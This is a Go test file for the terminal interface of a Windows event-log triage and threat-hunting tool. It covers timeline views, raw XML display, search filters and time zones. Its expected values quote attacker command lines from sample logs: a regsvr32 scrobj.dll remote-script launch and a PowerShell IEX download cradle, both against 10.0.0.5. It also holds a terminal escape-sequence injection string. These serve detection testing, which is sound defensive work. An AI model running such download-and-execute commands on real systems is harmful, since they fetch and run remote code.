package tui

import (
	"context"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/evtriage/evtriage/internal/winpath"
	"github.com/evtriage/evtriage/parser"
	"github.com/evtriage/evtriage/triage"
)

// rowsOf lists the timeline's rows as "LOG EID" strings.
func rowsOf(m Model) []string {
	var out []string
	for _, r := range m.timeline.rows {
		e := m.timeline.data.Events[r].Event
		out = append(out, triage.ChannelShort(e.Channel)+" "+strconv.Itoa(int(e.EventID)))
	}
	return out
}

// TestTimelineOpens: T opens the timeline around a finding, a process or
// a timeline event, marks that event, and esc goes back to where it was
// opened from; what has no time says so.
func TestTimelineOpens(t *testing.T) {
	m := hunting(t, hostInputs(t), 120, 40, nil)
	tests := []struct {
		name   string
		keys   []string
		from   viewKind
		anchor string // summary of the anchor event
	}{
		{"finding", []string{"T"}, viewFindings, "regsvr32.exe /s /u /i:http://10.0.0.5/a.sct scrobj.dll"},
		{"process", []string{"2", "j", "j", "T"}, viewTree, `"C:\Windows\system32\cmd.exe"`},
		{"timeline event", []string{"T", "k", "T"}, viewFindings, "script block IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, _ := drive(t, m, press(tt.keys...)...)
			if got.view != viewTimeline || got.timeline.data == nil {
				t.Fatalf("view %d, data %v", got.view, got.timeline.data != nil)
			}
			sel := got.timeline.Selected()
			if sel == nil || triage.Summary(sel.Event, 0) != tt.anchor || sel.File != got.timeline.anchor.file || sel.Event.Offset != got.timeline.anchor.off {
				t.Errorf("selected %+v, anchor %+v", sel, got.timeline.anchor)
			}
			if !strings.Contains(screen(got), "›*") {
				t.Errorf("the anchor event is not marked:\n%s", screen(got))
			}
			back, _ := drive(t, got, press("esc")...)
			if back.view != tt.from {
				t.Errorf("esc went to view %d, want %d", back.view, tt.from)
			}
		})
	}
	// The stub root (userinit, known from explorer's parent fields) has no
	// time: T says so and opens nothing.
	stub, _ := drive(t, m, press("2", "T")...)
	if stub.view != viewTree || stub.timeline.opened || !strings.Contains(stub.message, "no creation event") {
		t.Errorf("T on a stub: view %d opened %v message %q", stub.view, stub.timeline.opened, stub.message)
	}
	empty, _ := drive(t, New(Config{}), press("T")...)
	if empty.timeline.opened || empty.message == "" {
		t.Errorf("T before anything was read: opened %v, message %q", empty.timeline.opened, empty.message)
	}
}

// TestTimelineWindow: < and > step through the window widths and read it
// again, stop at either end with a message, keep the cursor on its event;
// a window asked for before the last one answered is dropped.
func TestTimelineWindow(t *testing.T) {
	m := hunting(t, hostInputs(t), 120, 40, nil)
	m, _ = drive(t, m, press("T", "k", "k")...) // the script block
	sel := m.timeline.Selected()
	wider, _ := drive(t, m, press(">")...)
	if wider.timeline.span != defaultSpan+1 || len(wider.timeline.data.Events) <= len(m.timeline.data.Events) {
		t.Errorf("> : span %d, %d events (before %d)", wider.timeline.span, len(wider.timeline.data.Events), len(m.timeline.data.Events))
	}
	if s := wider.timeline.Selected(); s == nil || s.Event.Offset != sel.Event.Offset || s.File != sel.File {
		t.Errorf("the cursor left its event: %+v", s)
	}
	narrow, _ := drive(t, m, press("<", "<", "<", "<", "<")...)
	if narrow.timeline.span != 0 || !strings.Contains(narrow.message, "as narrow") {
		t.Errorf("past the narrowest: span %d, message %q", narrow.timeline.span, narrow.message)
	}
	for _, e := range narrow.timeline.data.Events {
		if d := e.Event.Time.Sub(narrow.timeline.anchor.at); d > 10*time.Second || d < -10*time.Second {
			t.Errorf("an event %v from the anchor in a ±10s window", d)
		}
	}
	keys := make([]string, len(timelineSpans))
	for i := range keys {
		keys[i] = ">"
	}
	wide, _ := drive(t, m, press(keys...)...)
	if wide.timeline.span != len(timelineSpans)-1 || !strings.Contains(wide.message, "as wide") {
		t.Errorf("past the widest: span %d, message %q", wide.timeline.span, wide.message)
	}
	// Two windows asked for before either is read: the first answer is
	// dropped, the second shown.
	fast, _ := burst(t, m, press(">", ">")...)
	from, to := fast.timeline.window()
	if fast.timeline.data.Query.From != from || fast.timeline.data.Query.To != to || fast.timeline.running {
		t.Errorf("shown %v–%v, asked %v–%v (running %v)", fast.timeline.data.Query.From, fast.timeline.data.Query.To, from, to, fast.timeline.running)
	}
}

// TestTimelineEnter: enter on a flagged event opens its finding; on a
// process creation, the process in the tree; on anything else it says the
// detail pane shows it.
func TestTimelineEnter(t *testing.T) {
	m := hunting(t, hostInputs(t), 120, 40, nil)
	tests := []struct {
		keys []string
		view viewKind
		sel  string
	}{
		{[]string{"T", "j", "enter"}, viewFindings, "Regsvr32 DNS Query"},
		{[]string{"T", "k", "k", "k", "enter"}, viewTree, "cmd.exe"},
		{[]string{"T", "k", "enter"}, viewTimeline, ""},
	}
	for _, tt := range tests {
		got, _ := drive(t, m, press(tt.keys...)...)
		if got.view != tt.view {
			t.Errorf("%v: view %d, want %d (%q)", tt.keys, got.view, tt.view, got.message)
			continue
		}
		switch s := got.selection().(type) {
		case *triage.Finding:
			if s.Rule.Title != tt.sel {
				t.Errorf("%v: finding %q", tt.keys, s.Rule.Title)
			}
		case *triage.Process:
			if winpath.Base(s.Image) != tt.sel {
				t.Errorf("%v: process %q", tt.keys, s.Image)
			}
		case *triage.TimelineEvent:
			if !strings.Contains(got.message, "detail pane shows it") {
				t.Errorf("%v: message %q", tt.keys, got.message)
			}
		}
	}
}

// writeHostFiles writes the host logs as files and returns them as
// inputs.
func writeHostFiles(t *testing.T, dir string) []Input {
	var out []Input
	for _, in := range hostInputs(t) {
		p := filepath.Join(dir, strings.ReplaceAll(in.Name, "/", "-"))
		if err := os.WriteFile(p, in.Data, 0o600); err != nil {
			t.Fatal(err)
		}
		out = append(out, Input{Name: p, Path: p})
	}
	return out
}

// TestTimelineOnLogs opens the timeline around findings of the scenarios
// and of the shared real logs, as files: it shows what
// Result.ReadTimeline reads for that window, with the finding's event
// marked and flagged.
func TestTimelineOnLogs(t *testing.T) {
	scenarios, _ := filepath.Glob(filepath.Join("..", "samples", "logs", "*.evtx"))
	shared, _ := filepath.Glob(filepath.Join("..", "..", "shared", "evtx", "*.evtx"))
	for name, files := range map[string][]string{"scenarios": scenarios, "shared": shared} {
		t.Run(name, func(t *testing.T) {
			if len(files) == 0 {
				t.Skip("no logs")
			}
			var inputs []Input
			for _, f := range files {
				inputs = append(inputs, Input{Name: f, Path: f})
			}
			m := hunting(t, inputs, 120, 40, nil)
			if len(m.res.Findings) == 0 {
				t.Fatal("no findings")
			}
			for i := 0; i < m.table.Len(); i += max(m.table.Len()/5, 1) {
				m.table.SetCursor(i)
				f := m.table.Selected()
				got, _ := drive(t, m, press("T")...)
				from, to := got.timeline.window()
				want, err := got.res.ReadTimeline(context.Background(), triage.TimelineQuery{Host: f.Event.Event.Computer, From: from, To: to,
					Center: f.Event.Event.Time, Max: maxTimeline}, openFiles(t))
				if err != nil {
					t.Fatal(err)
				}
				if len(got.timeline.rows) != len(want.Events) || len(want.Events) == 0 {
					t.Fatalf("finding %d: %d rows, want %d", i, len(got.timeline.rows), len(want.Events))
				}
				sel := got.timeline.Selected()
				if sel == nil || sel.File != f.Event.File || sel.Event.Offset != f.Event.Event.Offset {
					t.Errorf("finding %d: the cursor is not on its event", i)
				}
				found := false
				for _, x := range sel.Findings {
					found = found || x == f
				}
				if !found {
					t.Errorf("finding %d is not flagged on its event", i)
				}
			}
		})
	}
}

// openFiles is a triage.Opener over files, closed when the test ends.
func openFiles(t *testing.T) triage.Opener {
	var open []*parser.File
	t.Cleanup(func() {
		for _, f := range open {
			f.Close()
		}
	})
	return func(name string) (*parser.Reader, error) {
		f, err := parser.Open(name, parser.Options{Carve: true})
		if err != nil {
			return nil, err
		}
		open = append(open, f)
		return f.Reader, nil
	}
}

// TestRawEvent: x shows the selected event's XML (a finding's, a
// process's, a timeline event's), escaped; x again the fields; an event
// that cannot be read says why.
func TestRawEvent(t *testing.T) {
	dir := t.TempDir()
	logPath := filepath.Join(dir, "ws01.evtx")
	writeLog(t, logPath) // a command line with escape sequences
	in := []Input{{Name: logPath, Path: logPath}}
	m := hunting(t, in, 120, 40, nil)
	for _, keys := range [][]string{{"x"}, {"2", "j", "x"}, {"T", "x"}} {
		got, _ := drive(t, m, press(keys...)...)
		all := strings.Join(got.detail.lines, "\n")
		if !strings.Contains(screen(got), "Raw event (XML)") || !strings.Contains(all, "<EventData>") || !strings.Contains(all, `\x1b]0;pwned\x07\x1b[2J`) {
			t.Errorf("%v: no escaped XML:\n%s", keys, all)
		}
		for _, bad := range []string{"\x1b]0;", "\x07", "\x1b[2J"} {
			if strings.Contains(all, bad) || strings.Contains(got.View().Content, bad) {
				t.Errorf("%v: the raw view wrote %q to the terminal", keys, bad)
			}
		}
		back, _ := drive(t, got, press("x")...)
		if strings.Contains(screen(back), "<EventData>") {
			t.Errorf("%v: x again still shows XML", keys)
		}
	}
	// The stub root has no event.
	stub, _ := drive(t, hunting(t, hostInputs(t), 120, 40, nil), press("2", "x")...)
	if !strings.Contains(screen(stub), "known from a child's parent fields") {
		t.Errorf("x on a stub:\n%s", screen(stub))
	}
	if err := os.Remove(logPath); err != nil {
		t.Fatal(err)
	}
	m.ev = newEvidence(in, true)
	gone, _ := drive(t, m, press("x")...)
	if !strings.Contains(screen(gone), "cannot read the event") {
		t.Errorf("x on a file gone:\n%s", screen(gone))
	}
}

// TestSearchOnly: & turns the search into a filter of the findings, the
// tree (matches and their ancestors) and the timeline, and back; esc
// ends the search and shows every row.
func TestSearchOnly(t *testing.T) {
	m := hunting(t, hostInputs(t), 120, 40, nil)
	m, _ = drive(t, m, press("T", "1")...)
	all := struct{ findings, tree, timeline int }{m.table.Len(), m.tree.Len(), m.timeline.Len()}
	only, _ := drive(t, m, press("/", "whoami", "enter", "&")...)
	if !only.filter.searchOnly {
		t.Fatal("& did not switch the mode")
	}
	for _, f := range only.table.Rows() {
		if !strings.Contains(findingCommandLine(f), "whoami") {
			t.Errorf("finding shown that does not match: %s", findingCommandLine(f))
		}
	}
	if only.table.Len() == 0 || only.table.Len() >= all.findings {
		t.Errorf("findings: %d of %d", only.table.Len(), all.findings)
	}
	// The tree: cmd /c whoami and its ancestors, nothing else.
	if got := only.tree.Len(); got != 6 {
		t.Errorf("tree rows %d, want the match and its 5 ancestors", got)
	}
	if got := only.timeline.Len(); got != 1 || only.timeline.Selected() == nil || !strings.Contains(triage.Summary(only.timeline.Selected().Event, 0), "whoami") {
		t.Errorf("timeline rows %d: %v", got, rowsOf(only))
	}
	if s := screen(only); !strings.Contains(s, "search only") && !strings.Contains(s, "/only") {
		t.Errorf("the status bar does not show the mode:\n%s", s)
	}
	jump, _ := drive(t, only, press("&")...)
	if jump.table.Len() != all.findings || jump.tree.Len() < all.tree || jump.timeline.Len() != all.timeline {
		t.Errorf("& back: %d %d %d rows, want %+v", jump.table.Len(), jump.tree.Len(), jump.timeline.Len(), all)
	}
	cleared, _ := drive(t, only, press("esc")...)
	if cleared.search.result != nil || cleared.table.Len() != all.findings || cleared.timeline.Len() != all.timeline {
		t.Errorf("esc: %d findings, %d events", cleared.table.Len(), cleared.timeline.Len())
	}
	// The mode set before a search applies to it.
	before, _ := drive(t, m, press("&", "/", "10.0.0.5", "enter", "3")...)
	for _, r := range before.timeline.rows {
		if !before.timeline.matches()[r] {
			t.Errorf("a timeline row that does not match")
		}
	}
}

// TestTimeZone: --tz changes the times the screen shows and the status
// bar names the zone; filters and exports stay in UTC.
func TestTimeZone(t *testing.T) {
	loc := berlin(t)
	m := hunting(t, hostInputs(t), 120, 40, loc)
	s := screen(m)
	if !strings.Contains(s, "2026-03-02 09:00:00 high") || !strings.Contains(s, "Europe/Berlin") ||
		!strings.Contains(strings.Join(m.detail.lines, "\n"), "2026-03-02 09:00:00.000 +01:00 CET · 08:00:00 UTC") {
		t.Errorf("times not in Europe/Berlin:\n%s", s)
	}
	got, _ := drive(t, m, press("e", "enter")...) // the export menu, JSON
	ents, _ := os.ReadDir(m.cfg.ExportDir)
	if len(ents) != 1 {
		t.Fatalf("export: %v (%s)", ents, got.message)
	}
	data, err := os.ReadFile(filepath.Join(m.cfg.ExportDir, ents[0].Name()))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), `"time": "2026-03-02T08:00:00Z"`) && !strings.Contains(string(data), `"time":"2026-03-02T08:00:00Z"`) {
		t.Errorf("the export is not in UTC:\n%.600s", data)
	}
	// [ ] take the selection's absolute time.
	ranged, _ := drive(t, m, press("[")...)
	if !ranged.filter.From.Equal(hostT) || !strings.Contains(screen(ranged), "03-02 09:00:00–…") {
		t.Errorf("[ in Berlin: from %v\n%s", ranged.filter.From, screen(ranged))
	}
	local := hunting(t, hostInputs(t), 120, 40, time.Local)
	if !strings.Contains(screen(local), " local") {
		t.Errorf("--tz local is not named:\n%s", screen(local))
	}
}
